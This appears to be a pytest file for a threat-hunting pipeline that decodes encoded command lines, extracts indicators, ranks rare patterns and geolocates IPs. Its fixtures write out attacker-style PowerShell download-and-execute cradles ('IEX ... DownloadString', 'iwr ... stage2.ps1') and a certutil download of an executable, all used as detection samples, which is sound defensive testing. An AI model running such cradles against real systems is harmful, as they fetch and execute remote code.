"""The stages one by one, on the real sample events and small hand-made frames."""

from __future__ import annotations

import base64
from pathlib import Path

import pandas as pd

from asisdk.data import sample_events_frame
from asisdk.executors import InlineExecutor
from asisdk.geo import GeoIpDatabase
from asisdk.pipeline import (
    DECODED_COLUMNS,
    IOC_COLUMNS,
    PATTERN_COLUMNS,
    decode_events,
    extract_iocs,
    find_patterns,
    geolocate_iocs,
    load_frame,
    summarise_iocs,
)


def _utf16_b64(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


def test_decode_links_every_layer_to_its_source_row() -> None:
    loaded = load_frame(sample_events_frame(), source="sample")
    frame = loaded.frame
    decoded = decode_events(frame, ["CommandLine"], executor=InlineExecutor())
    assert tuple(decoded.columns) == DECODED_COLUMNS
    assert len(decoded) > 0
    layers = {(r.src_index, r.layer): r for r in decoded.itertuples()}
    for row in decoded.itertuples():
        assert row.asi_row == frame.at[row.src_index, "asi_row"]
        if row.depth == 1:  # found in the event itself
            assert row.encoded.split("...")[0] in frame.at[row.src_index, "CommandLine"]
        else:  # found in its parent layer of the same event
            parent = layers[(row.src_index, row.parent)]
            assert row.encoded.split("...")[0] in parent.decoded_text
    assert (decoded["depth"] > 1).any()
    empire = decoded[decoded["decoded_text"].str.contains("PSVERSiOnTaBlE", case=False, na=False)]
    assert not empire.empty
    assert set(empire["encoding"]) == {"base64"}


def test_decode_runs_each_distinct_text_once_but_reports_every_row() -> None:
    payload = _utf16_b64("IEX (New-Object Net.WebClient).DownloadString('http://81.2.69.142/a')")
    frame = pd.DataFrame(
        {"CommandLine": [f"powershell -enc {payload}", "whoami", f"powershell -enc {payload}"]}
    )
    decoded = decode_events(frame, ["CommandLine"])
    assert decoded["src_index"].tolist() == [0, 2]
    assert decoded["decoded_text"].str.contains("DownloadString").all()


def test_iocs_come_from_original_and_decoded_text_with_their_source() -> None:
    payload = _utf16_b64("iwr http://81.2.69.142/stage2.ps1 -OutFile C:\\x.ps1")
    frame = pd.DataFrame(
        {
            "CommandLine": [f"powershell -enc {payload}", "ping 216.160.83.56", "notepad"],
            "IpAddress": ["-", "81.2.69.142", None],
        }
    )
    decoded = decode_events(frame, ["CommandLine"])
    hits = extract_iocs(frame, ["CommandLine", "IpAddress"], decoded)
    assert tuple(hits.columns) == IOC_COLUMNS
    decoded_hits = hits[hits["source"] == "decoded"]
    assert set(decoded_hits["observable"]) >= {"http://81.2.69.142/stage2.ps1", "81.2.69.142"}
    assert set(decoded_hits["src_index"]) == {0}
    assert set(decoded_hits["layer"]) == {"1"}

    table = summarise_iocs(hits, frame)
    ip = table[table["observable"] == "81.2.69.142"].iloc[0]
    assert ip["events"] == 2
    assert ip["sources"] == "original+decoded"
    assert ip["columns"] == "CommandLine, IpAddress"
    assert table.iloc[0]["ioc_type"] == "url"  # URLs rank before IPs


def test_patterns_rank_the_rare_ones_first() -> None:
    times = pd.date_range("2024-03-01", periods=12, freq="min", tz="UTC")
    lines = [f"svchost.exe -k netsvcs -p -s Svc{i}" for i in range(10)]
    lines += ["certutil -urlcache -split -f http://81.2.69.142/x.exe", ""]
    frame = pd.DataFrame({"CommandLine": lines, "TimeGenerated": times})
    patterns, labels = find_patterns(
        frame, ["CommandLine"], time_column="TimeGenerated", rare_min_events=1
    )
    assert tuple(patterns.columns) == PATTERN_COLUMNS
    assert patterns["rarity_rank"].tolist() == list(range(1, len(patterns) + 1))
    top = patterns.iloc[0]
    assert top["events"] == 1
    assert top["rare"]
    assert top["template"].startswith("certutil")
    assert top["first_seen"] == times[10]
    assert patterns.iloc[-1]["events"] == 10
    assert not patterns.iloc[-1]["rare"]
    assert labels.iloc[11] == -1  # no text, no pattern
    assert labels.iloc[0] == labels.iloc[9]


def test_patterns_fall_back_to_the_next_text_column() -> None:
    frame = pd.DataFrame({"CommandLine": ["", "a b"], "Message": ["disk full", "ignored"]})
    patterns, labels = find_patterns(frame, ["CommandLine", "Message"])
    assert set(patterns["template"]) == {"disk full", "a b"}
    assert (labels >= 0).all()


def test_geolocation_with_maxminds_test_database(geo_test_db: Path) -> None:
    table = pd.DataFrame(
        {
            "ioc_type": ["ipv4", "ipv4", "dns", "ipv6"],
            "observable": ["81.2.69.142", "10.1.2.3", "example.com", "2001:218::1"],
        }
    )
    with GeoIpDatabase(geo_test_db, stale_after=None) as geo:
        located = geolocate_iocs(table, geo).set_index("observable")
    assert located.loc["81.2.69.142", "city"] == "London"
    assert located.loc["81.2.69.142", "country_code"] == "GB"
    assert located.loc["10.1.2.3", "geo_status"] == "private"
    assert located.loc["2001:218::1", "country_code"] == "JP"
    assert "example.com" not in located.index


def test_timeline_points_are_bounded_and_keep_marked_events_first() -> None:
    from asisdk.pipeline._timeline import timeline_points

    times = pd.date_range("2024-01-01", periods=1000, freq="s", tz="UTC")
    events = pd.DataFrame({"TimeGenerated": times, "CommandLine": ["x"] * 1000})
    options = {
        "time_column": "TimeGenerated",
        "host_column": None,
        "text_columns": ("CommandLine",),
        "decoded_rows": set(range(0, 1000, 2)),  # 500 events with payloads
        "rare_rows": {1, 3},
    }
    points = timeline_points(events, max_points=300, **options)  # type: ignore[arg-type]
    assert len(points) == 300
    assert set(points["kind"]) == {"decoded payload"}  # the marked ones fill the budget first
    points = timeline_points(events, max_points=600, **options)  # type: ignore[arg-type]
    assert points["kind"].value_counts().to_dict() == {
        "decoded payload": 500,
        "event": 98,
        "rare pattern": 2,
    }
